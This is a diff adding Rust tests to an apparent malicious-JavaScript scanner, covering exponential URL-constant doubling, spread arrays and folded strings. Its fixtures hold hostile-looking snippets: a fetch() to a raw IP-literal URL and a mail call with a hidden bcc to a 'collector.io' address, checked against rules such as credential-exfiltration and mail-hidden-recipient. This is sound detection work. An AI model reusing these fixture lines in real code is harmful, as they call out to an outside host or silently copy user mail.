@@ -150,3 +150,39 @@ fn text_that_is_not_javascript_is_still_searched() {
         "critical network-exfil-service 1\ncritical credential-exfiltration 1\ninfo parse-error 0",
     );
 }
+
+/// Forty doublings of one URL constant, then a network call with the last one.
+fn doubling_source(first: &str, double: impl Fn(usize) -> String) -> String {
+    let mut source = format!("const u0 = {first};\n");
+    for index in 1..=40 {
+        source.push_str(&double(index));
+        source.push('\n');
+    }
+    source.push_str("fetch(u40);\n");
+    source
+}
+
+// See: issue 10 (the URL list doubled per line until the process died at 3 GiB).
+#[test]
+fn issue_10_doubled_url_constants_are_tracked_once_and_the_folded_length_is_a_limit() {
+    let source = doubling_source("'http://45.9.148.1/e'", |index| format!("const u{index} = u{} + u{0};", index - 1));
+    check(&source, "medium network-ip-literal 1\nmedium analysis-limit-reached 0");
+    let source =
+        doubling_source("'http://45.9.148.1/e'", |index| format!("const u{index} = `${{u{}}}${{u{0}}}`;", index - 1));
+    check(&source, "medium network-ip-literal 1\nmedium analysis-limit-reached 0");
+}
+
+#[test]
+fn arrays_spreading_each_other_carry_their_urls_once() {
+    let source =
+        doubling_source("['http://45.9.148.1/e']", |index| format!("const u{index} = [...u{}, ...u{0}];", index - 1));
+    check(&source, "medium network-ip-literal 1");
+}
+
+#[test]
+fn short_folded_constants_still_resolve_recipients() {
+    check(
+        "const domain = 'collector' + '.io';\nconst copy = `audit@${domain}`;\ntransport.sendMail({ to, bcc: copy });",
+        "high mail-hidden-recipient 3",
+    );
+}
